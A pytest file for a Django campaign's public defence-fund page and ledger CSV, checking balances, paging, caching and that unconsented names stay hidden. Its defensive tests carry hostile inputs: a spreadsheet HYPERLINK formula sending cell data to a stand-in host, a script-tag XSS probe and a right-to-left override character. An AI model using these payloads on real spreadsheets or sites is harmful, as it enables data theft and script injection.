"""The public fund page and the public ledger download, through the pages.

Money is entered through the treasurers' services, as in tests/fund/test_ledger.py;
the page and the CSV must show what the public may see and nothing more.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import xml.etree.ElementTree as ET
from collections import defaultdict
from decimal import Decimal
from html import unescape
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from habeas.coalition.models import Campaign
from habeas.fund import chart
from habeas.fund.models import Disbursement, Pledge
from habeas.fund.queries.public import CSV_COLUMNS, PAGE_SIZE
from habeas.fund.services.contributions import contribution_record
from habeas.fund.services.disbursements import disbursement_approve, disbursement_request
from habeas.fund.services.ledger import entry_reverse, transfer_post
from habeas.fund.services.setup import account_add, fund_settings_change, rate_record
from tests.fund.conftest import Books
from tests.pages import forget_pages, page_queries

pytestmark = pytest.mark.django_db

PAGE = "/fund/free-them/"
URDU_PAGE = "/ur/fund/free-them/"
CSV_PATH = "/fund/free-them/ledger.csv"
SVG = re.compile(r"<svg\b.*?</svg>", re.S)

# Names that must never reach the public: a donor who did not agree, a payee
# and a person served who did not agree, a pledger.
HIDDEN_DONOR = "Zubair Hiddendonor"
HIDDEN_PAYEE = "Advocate Hiddenpayee"
HIDDEN_SERVED = "Prisoner Hiddenserved"
HIDDEN_PLEDGER = "Pledger Hiddenpledge"
CANARIES = (HIDDEN_DONOR, HIDDEN_PAYEE, HIDDEN_SERVED, HIDDEN_PLEDGER)


@pytest.fixture(autouse=True)
def _fresh_pages() -> Any:
    forget_pages()
    yield
    forget_pages()


def _page(path: str = PAGE, **params: str) -> str:
    response = Client().get(path, params)
    assert response.status_code == 200, (path, response.status_code)
    return unescape(response.content.decode())


def _csv(path: str = CSV_PATH) -> list[dict[str, str]]:
    response = Client().get(path)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def give(
    books: Books,
    amount: str = "100.00",
    *,
    currency: str = "GBP",
    account: Any = None,
    donor_name: str = "",
    name_public: bool = False,
    received_on: datetime.date | None = None,
) -> Any:
    return contribution_record(
        fund=books.fund,
        by=books.ta,
        organisation=books.a,
        amount=amount,
        currency=currency,
        account=account or books.bank,
        method="BANK_TRANSFER",
        donor_name=donor_name,
        name_public=name_public,
        received_on=received_on or books.today,
    )


def pay(
    books: Books,
    amount: str = "60.00",
    *,
    purpose: str = "Lawyer's fee for the bail hearing",
    category: Any = None,
    payee: str = "",
    payee_public: bool = False,
    serves: str = "",
    serves_public: bool = False,
) -> Disbursement:
    """A payment requested for A and approved for B, hence paid."""
    disbursement = disbursement_request(
        fund=books.fund,
        by=books.ta,
        organisation=books.a,
        amount=amount,
        currency="GBP",
        account=books.bank,
        category=category or books.legal,
        purpose=purpose,
        payee=payee,
        payee_public=payee_public,
        serves=serves,
        serves_public=serves_public,
    )
    disbursement_approve(disbursement=disbursement, by=books.tb, organisation=books.b)
    disbursement.refresh_from_db()
    assert disbursement.status == Disbursement.Status.PAID
    return disbursement


def usd_bank(books: Books) -> Any:
    return account_add(
        fund=books.fund,
        by=books.ta,
        organisation=books.a,
        kind="BANK",
        name="Bank (USD)",
        currency="USD",
    )


def set_goal(books: Books, goal: str, how_to_pay: str = "", how_to_pay_ur: str = "") -> None:
    fund_settings_change(
        fund=books.fund,
        by=books.coordinator,
        goal=goal,
        approvals_required=2,
        how_to_pay=how_to_pay,
        how_to_pay_ur=how_to_pay_ur,
    )


# --- A new fund ------------------------------------------------------------------------


def test_a_new_fund_says_nothing_is_recorded_yet(books: Books) -> None:
    """An empty fund's page says so, names no goal, lists its accounts at zero and
    links to pledging and to the (empty) ledger download."""
    page = _page()
    assert "Nothing has been recorded yet" in page
    assert "No goal has been set." in page
    assert "Bank (GBP)" in page
    assert "Cash (GBP)" in page
    assert "Legal fees" in page
    assert "GBP 0.00" in page
    assert 'href="/fund/free-them/pledge/"' in page
    assert 'href="/fund/free-them/ledger.csv"' in page
    assert "The campaign has not published how to pay in yet." in page
    assert "<svg" not in page
    assert _csv() == []


def test_the_page_names_the_campaign_and_links_back(books: Books) -> None:
    page = _page()
    assert "Free the prisoners" in page
    assert 'href="/campaigns/free-them/"' in page


# --- Money in ----------------------------------------------------------------------------


def test_balances_raised_against_the_goal_and_the_rates_used(books: Books) -> None:
    """Contributions in GBP and USD count towards the goal, USD at its latest rate
    (shown with its source and date); PKR has no rate, is listed unconverted and
    said to be left out of the total. Money promised is shown apart."""
    set_goal(books, "1000")
    give(books, "100.00")
    give(books, "50.00", currency="USD", account=usd_bank(books))
    give(books, "2000", currency="PKR", account=books.account("pledges-receivable"))
    old = books.today - datetime.timedelta(days=30)
    for rate, as_of in (("0.5", old), ("0.8", books.today - datetime.timedelta(days=2))):
        rate_record(
            fund=books.fund,
            by=books.ta,
            organisation=books.a,
            currency="USD",
            rate=rate,
            source="Bank of England",
            as_of=as_of,
        )
    page = _page()
    assert "Nothing has been recorded yet" not in page
    # 100 GBP + 50 USD at 0.8 = 140 GBP of a 1,000 GBP goal; PKR left out.
    assert "Raised GBP 140.00 of a goal of GBP 1,000.00." in re.sub(r"<[^>]+>", "", page)
    assert 'max="100000" value="14000"' in page
    assert "14% of the goal" in page
    assert "1 USD = 0.8 GBP" in page
    assert "1 USD = 0.5 GBP" not in page
    assert "Bank of England" in page
    assert (books.today - datetime.timedelta(days=2)).strftime("%Y") in page
    assert "No rate recorded" in page
    assert "left out of the total" in page
    assert "PKR 2,000.00" in page
    assert "Money promised" in page
    # Promised money is not money held.
    held = re.search(r"In the fund's bank and cash accounts:(.*?)</p>", page, re.S)
    assert held is not None
    assert "GBP 100.00" in held[1]
    assert "PKR" not in held[1]
    accounts = re.search(r'<table class="grid stack-narrow fund-accounts">.*?</table>', page, re.S)
    assert accounts is not None
    assert "Pledges receivable" not in accounts[0]
    # Each account's balance, from its Balance row.
    assert re.search(r"Bank \(GBP\).*?GBP 100\.00", page, re.S)
    assert re.search(r"Bank \(USD\).*?USD 50\.00", page, re.S)


def test_a_goal_reached_fills_the_bar_and_stops_at_the_goal(books: Books) -> None:
    set_goal(books, "50")
    give(books, "80")
    page = _page()
    assert 'max="5000" value="5000"' in page
    assert "100% of the goal" in page


def test_promised_pledges_are_counted_without_names(books: Books) -> None:
    """Confirmed pledges show as a count and a sum per currency; pending or cancelled
    ones do not count, and no pledger is named."""
    for status, amount in (
        (Pledge.Status.CONFIRMED, 2500),
        (Pledge.Status.CONFIRMED, 1000),
        (Pledge.Status.PENDING, 99900),
        (Pledge.Status.CANCELLED, 88800),
    ):
        Pledge.objects.create(
            fund=books.fund,
            amount_minor=amount,
            currency="GBP",
            name=HIDDEN_PLEDGER,
            name_public=True,
            email="pledger@example.org",
            language="en",
            status=status,
        )
    page = _page()
    assert "2 pledges promise GBP 35.00, not yet received." in re.sub(r"<[^>]+>", "", page)
    assert "999.00" not in page
    assert "888.00" not in page
    assert HIDDEN_PLEDGER not in page
    assert "pledger@example.org" not in page


def test_how_to_pay_is_plain_text_with_its_date_of_change(books: Books) -> None:
    """The published details keep their line breaks, run no markup, and say when
    they last changed; the Urdu page shows the Urdu details."""
    set_goal(
        books,
        "",
        how_to_pay="Account: 12345678\nSort code: 01-02-03\n<script>alert(1)</script>\nRef \u202e",
        how_to_pay_ur="اکاؤنٹ: 12345678",
    )
    response = Client().get(PAGE)
    raw = response.content.decode()
    assert "Account: 12345678<br>Sort code: 01-02-03<br>&lt;script&gt;" in raw
    assert "<script>alert" not in raw
    assert "\u202e" not in raw
    assert "These details last changed on" in raw
    urdu = _page(URDU_PAGE)
    assert "اکاؤنٹ: 12345678" in urdu
    assert 'lang="ur" dir="rtl"' in urdu


# --- Money out ---------------------------------------------------------------------------


def test_a_payment_shows_purpose_category_amount_and_approving_organisations(
    books: Books,
) -> None:
    give(books, "500")
    pay(books, "60.00", payee=HIDDEN_PAYEE, serves=HIDDEN_SERVED)
    pay(
        books,
        "25.00",
        purpose="Train fares to the hearing",
        category=books.account("travel"),
        payee="Northern Rail",
        payee_public=True,
        serves="Ehsan Ali",
        serves_public=True,
    )
    page = _page()
    assert "Lawyer's fee for the bail hearing" in page
    assert "Legal fees" in page
    assert "GBP 60.00" in page
    assert "Workers' Party" in page
    assert "Teachers' Union" in page
    assert "Train fares to the hearing" in page
    assert "Northern Rail" in page
    assert "for <bdi>Ehsan Ali</bdi>" in page
    assert "not named" in page
    assert HIDDEN_PAYEE not in page
    assert HIDDEN_SERVED not in page
    # Newest first.
    assert page.index("Train fares") < page.index("Lawyer's fee for the bail")
    # Spending by category, from the Balance rows.
    assert re.search(r"Travel.*?GBP 25\.00", page, re.S)


def test_a_reversed_payment_says_so(books: Books) -> None:
    give(books, "500")
    paid = pay(books)
    assert paid.entry is not None
    reversal = entry_reverse(
        entry=paid.entry, by=books.tb, organisation=books.b, reason="Paid twice by the bank"
    )
    page = _page()
    assert f"Reversed by entry #{reversal.number}" in page
    assert "Paid twice by the bank" not in page


def test_urdu_page_shows_urdu_category_names(books: Books) -> None:
    give(books, "500")
    pay(books)
    page = _page(URDU_PAGE)
    assert 'lang="ur"' in page
    assert "قانونی اخراجات" in page
    assert "بینک (GBP)" in page
    assert "Lawyer's fee for the bail hearing" in page


# --- Nothing private, anywhere ---------------------------------------------------------------


def test_private_names_never_appear_on_the_page_the_csv_or_the_urdu_page(books: Books) -> None:
    """Canaries: a donor who did not agree to be named, a payee and a person served
    who did not agree, a pledger; none reaches any public output, while a donor,
    payee and person who agreed do."""
    give(books, "300", donor_name=HIDDEN_DONOR, name_public=False)
    give(books, "40", donor_name="Amina Namedfriend", name_public=True)
    pay(books, payee=HIDDEN_PAYEE, serves=HIDDEN_SERVED)
    pay(
        books,
        "10",
        payee="Public Lawyers LLP",
        payee_public=True,
        serves="Asif Sakhi",
        serves_public=True,
    )
    Pledge.objects.create(
        fund=books.fund,
        amount_minor=1000,
        currency="GBP",
        name=HIDDEN_PLEDGER,
        email="hidden@example.org",
        language="en",
        status=Pledge.Status.CONFIRMED,
    )
    english, urdu = _page(), _page(URDU_PAGE)
    ledger = "\n".join(",".join(row.values()) for row in _csv())
    for output in (english, urdu, ledger):
        for canary in CANARIES:
            assert canary not in output
        assert "hidden@example.org" not in output
        assert "Amina Namedfriend" in output
    for output in (english, urdu):
        assert "Public Lawyers LLP" in output
        assert "Asif Sakhi" in output
    assert "Contribution (donor not named)" in ledger


def test_named_donors_are_listed_and_a_reversed_gift_is_not(books: Books) -> None:
    give(books, "40", donor_name="Amina Namedfriend", name_public=True)
    bounced = give(books, "20", donor_name="Bounced Cheque", name_public=True)
    give(books, "30", donor_name=HIDDEN_DONOR)
    entry_reverse(entry=bounced.entry, by=books.tb, organisation=books.b, reason="Bounced")
    page = _page()
    donors = page[page.index("Donors who agreed to be named") :]
    assert "Amina Namedfriend" in donors
    assert "Bounced Cheque" not in donors
    assert HIDDEN_DONOR not in page


def test_another_funds_money_stays_on_its_own_page(books: Books) -> None:
    """Each fund's page and download show its own ledger only."""
    contribution_record(
        fund=books.other_fund,
        by=books.tx,
        organisation=books.outsider,
        amount="77.77",
        currency="GBP",
        account=books.account("bank-gbp", books.other_fund),
        method="CASH",
        donor_name="Other Fund Donor",
        name_public=True,
        received_on=books.today,
    )
    page = _page()
    assert "77.77" not in page
    assert "Other Fund Donor" not in page
    assert "Nothing has been recorded yet" in page
    assert _csv() == []
    assert "Other Fund Donor" in _page("/fund/another/")
    assert len(_csv("/fund/another/ledger.csv")) == 2


# --- The CSV -------------------------------------------------------------------------------


def test_the_csv_has_every_line_and_every_entry_balances(books: Books) -> None:
    """One row per line with exact decimals; each entry's debits equal its credits in
    each currency; a reversal names the entry it reverses."""
    give(books, "100.05")
    give(books, "50", currency="USD", account=usd_bank(books))
    paid = pay(books, "60.00")
    assert paid.entry is not None
    reversal = entry_reverse(entry=paid.entry, by=books.tb, organisation=books.b, reason="x")
    rows = _csv()
    assert len(rows) == 8
    sums: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for row in rows:
        debit, credit = row["debit"], row["credit"]
        assert bool(debit) != bool(credit)
        sums[(row["entry"], row["currency"])] += Decimal(debit or 0) - Decimal(credit or 0)
    assert set(sums.values()) == {Decimal(0)}
    first = rows[0]
    assert first["entry"] == "1"
    assert first["date"] == books.today.isoformat()
    assert first["kind"] == "CONTRIBUTION"
    assert first["description"] == "Contribution (donor not named)"
    assert first["account"] == "Bank (GBP)"
    assert first["account_kind"] == "BANK"
    assert first["debit"] == "100.05"
    reversing = [row for row in rows if row["entry"] == str(reversal.number)]
    assert {row["reverses_entry"] for row in reversing} == {str(paid.entry.number)}
    assert [row["entry"] for row in rows] == sorted((row["entry"] for row in rows), key=int)


def test_formula_looking_text_is_neutralised_in_the_csv(books: Books) -> None:
    give(books, "100")
    transfer_post(
        fund=books.fund,
        by=books.ta,
        organisation=books.a,
        booked_on=books.today,
        description='=HYPERLINK("http://evil.example/?"&A1,"click")',
        lines=[(books.cash, "GBP", "10", ""), (books.bank, "GBP", "", "10")],
    )
    account_add(
        fund=books.fund,
        by=books.ta,
        organisation=books.a,
        kind="EXPENSE",
        name="@SUM(1+1)",
        currency="",
    )
    rows = _csv()
    transfer = [row for row in rows if row["kind"] == "TRANSFER"]
    assert transfer
    for row in transfer:
        assert row["description"].startswith("'=HYPERLINK(")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


# --- The chart ---------------------------------------------------------------------------------


def test_the_chart_is_well_formed_svg_with_a_text_alternative_and_a_table(books: Books) -> None:
    give(books, "100")
    give(books, "75", received_on=books.today.replace(day=1) - datetime.timedelta(days=40))
    pay(books, "60")
    response = Client().get(PAGE)
    raw = response.content.decode()
    found = SVG.findall(raw)
    assert len(found) == 1
    svg = ET.fromstring(found[0])  # noqa: S314 — the page's own SVG
    assert svg.get("role") == "img"
    assert svg.get("aria-labelledby") == "fund-chart-title fund-chart-desc"
    namespace = "{http://www.w3.org/2000/svg}"
    assert "Income and spending per month, in GBP" in (svg.findtext(f"{namespace}title") or "")
    assert "table below" in (svg.findtext(f"{namespace}desc") or "")
    bars = svg.findall(f"{namespace}rect")
    assert any("GBP 100.00" in (bar.findtext(f"{namespace}title") or "") for bar in bars)
    assert " style=" not in found[0]
    assert '<figure class="fund-chart-figure" dir="ltr">' in raw
    # The same figures as a table, every month from the first in between.
    assert raw.count('<tr><th scope="row" data-label="Month">') == 3
    urdu = Client().get(URDU_PAGE).content.decode()
    ET.fromstring(SVG.findall(urdu)[0])  # noqa: S314 — the page's own SVG
    assert '<figure class="fund-chart-figure" dir="ltr">' in urdu


def test_month_chart_draws_negative_months_and_long_spans_within_its_box() -> None:
    """A month whose net income is negative draws below zero; 36 months get labels
    spaced to fit; the SVG parses; no month, no chart."""
    start = datetime.date(2023, 1, 1)
    months = [
        (
            datetime.date(
                start.year + (start.month - 1 + n) // 12, (start.month - 1 + n) % 12 + 1, 1
            ),
            (n + 1) * 123_456 * (-10 if n == 5 else 1),
            n * 10_000,
        )
        for n in range(36)
    ]
    svg = str(chart.month_chart(months, currency="GBP", title="T <&>"))
    root = ET.fromstring(svg)  # noqa: S314 — our own SVG
    labels = list(root.iter("{http://www.w3.org/2000/svg}text"))
    month_labels = [t for t in labels if t.get("text-anchor") == "middle"]
    assert 1 < len(month_labels) <= 12
    # Every shape within the 720 x 280 box, the negative month's bar too.
    for element in root.iter():
        for name, limit in (("x", 720), ("width", 720), ("y", 280), ("height", 280)):
            value = element.get(name)
            if value is not None:
                assert 0 <= float(value) <= limit, (element.tag, name, value)
        if element.get("y") is not None and element.get("height") is not None:
            assert float(element.get("y", 0)) + float(element.get("height", 0)) <= 280
    assert "T &lt;&amp;&gt;" in svg
    assert chart.month_chart([], currency="GBP", title="x") == ""


# --- Visibility, paging, cost -------------------------------------------------------------------


@pytest.mark.parametrize("path", [PAGE, URDU_PAGE, CSV_PATH, "/fund/no-such-campaign/"])
def test_a_draft_campaigns_fund_and_unknown_slugs_are_404(books: Books, path: str) -> None:
    Campaign.objects.filter(pk=books.campaign.pk).update(status=Campaign.Status.DRAFT)
    forget_pages()
    assert Client().get(path).status_code == 404
    assert Client().get("/fund/no-such-campaign/ledger.csv").status_code == 404


def test_payments_and_donors_are_paged(books: Books) -> None:
    """Payments come 25 to a page, numbered; named donors 25 at a time, each page
    starting where the one before ended, with a way back to the newest."""
    give(books, "10000", donor_name="Donor 000", name_public=True)
    for n in range(1, PAGE_SIZE + 1):
        give(books, "1", donor_name=f"Donor {n:03d}", name_public=True)
    give(books, "1", donor_name=HIDDEN_DONOR)
    for n in range(PAGE_SIZE + 1):
        pay(books, "1", purpose=f"Payment {n:03d}")
    first = _page()
    assert first.count("Payment 0") == PAGE_SIZE
    assert "Payment 025" in first
    assert "Payment 000" not in first
    assert "Page 1 of 2 (26 in all)" in first
    second = _page(payments="2")
    assert "Payment 000" in second
    assert "Payment 001" not in second
    assert "Donor 025" in second  # the donors' list stays on its first page
    assert first.count("Donor 0") == PAGE_SIZE
    assert "Donor 000" not in first
    assert "Newest donors" not in first
    older = re.findall(r'href="\?donors=(\d+)#donors-heading">Older donors', first)
    assert older == [str(2)]  # Donor 001's entry, the oldest shown
    donors = _page(donors=older[0], payments="2")
    assert "Donor 000" in donors
    assert "Donor 001" not in donors
    assert "Older donors" not in donors
    assert 'href="?payments=2#donors-heading">Newest donors' in donors
    assert "Payment 000" in donors  # the payments' page is kept
    # A number past the last entry, or garbage, shows the newest donors.
    for value in ("abc", "0", "-3", "99999", "99999999999"):
        assert "Donor 025" in _page(donors=value)


def _queries(path: str) -> int:
    forget_pages()
    with CaptureQueriesContext(connection) as queries:
        response = Client().get(path)
    assert response.status_code == 200
    return len(page_queries(queries.captured_queries))


def test_the_page_costs_the_same_queries_for_3_entries_as_for_30(books: Books) -> None:
    """Balances, totals and the chart come from kept rows; lists are paged: the page's
    query count does not grow with the ledger."""
    rate_record(
        fund=books.fund,
        by=books.ta,
        organisation=books.a,
        currency="USD",
        rate="0.8",
        source="ECB",
        as_of=books.today,
    )
    usd = usd_bank(books)

    def add(entries: int) -> None:
        for n in range(entries // 3):
            give(books, "100", donor_name=f"Donor {n}", name_public=n % 2 == 0)
            give(books, "5", currency="USD", account=usd)
            pay(books, "1", purpose=f"Payment {n}")

    add(3)
    few = _queries(PAGE)
    add(27)
    assert _queries(PAGE) == few
    assert few <= 12


# --- The campaign page ----------------------------------------------------------------------


def test_the_campaign_page_links_to_its_fund(books: Books) -> None:
    assert 'href="/fund/free-them/"' in _page("/campaigns/free-them/")
    assert 'href="/ur/fund/free-them/"' in _page("/ur/campaigns/free-them/")


def test_a_campaign_without_a_fund_says_so(books: Books) -> None:
    from tests.factories import CampaignFactory

    CampaignFactory(slug="no-fund")
    page = _page("/campaigns/no-fund/")
    assert "has not opened a defence fund yet" in page
    assert "/fund/no-fund/" not in page


def test_the_fund_page_is_kept_for_visitors_and_renewed_by_a_posting(books: Books) -> None:
    """A visitor's second request is served from the page cache; a new contribution
    renews the page."""
    from tests.core.pagecache_world import visit

    assert "Nothing has been recorded yet" in visit(PAGE)
    give(books, "12.34")
    assert "GBP 12.34" in visit(PAGE)


def test_a_repeat_download_of_an_unchanged_ledger_is_answered_304(books: Books) -> None:
    """The download is streamed, never stored, but carries the page cache's ETag: the
    same ledger again costs a 304; a new entry makes a new download."""
    give(books, "10")
    first = Client().get(CSV_PATH)
    etag = first["ETag"]
    assert "public" in first["Cache-Control"]
    again = Client().get(CSV_PATH, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304
    give(books, "11")
    fresh = Client().get(CSV_PATH, HTTP_IF_NONE_MATCH=etag)
    assert fresh.status_code == 200
    assert fresh["ETag"] != etag
    assert b"11.00" in b"".join(fresh.streaming_content)  # type: ignore[attr-defined]


def test_a_kept_page_shows_a_pledge_confirmed_since(books: Books) -> None:
    """The page is kept for visitors, and a pledge confirmed after it was kept shows on
    the next visit: confirming renews the counting pages."""
    from habeas.fund import tokens
    from habeas.fund.services.pledges import pledge_confirm

    pledge = Pledge.objects.create(
        fund=books.fund, amount_minor=4200, currency="GBP", email="p@example.org", language="en"
    )
    assert "GBP 42.00" not in _page()
    assert "GBP 42.00" not in Client().get(PAGE).content.decode()  # served from the cache
    pledge_confirm(token=tokens.confirm_token(pledge))
    assert "1 pledge promises GBP 42.00" in re.sub(r"<[^>]+>", "", _page())
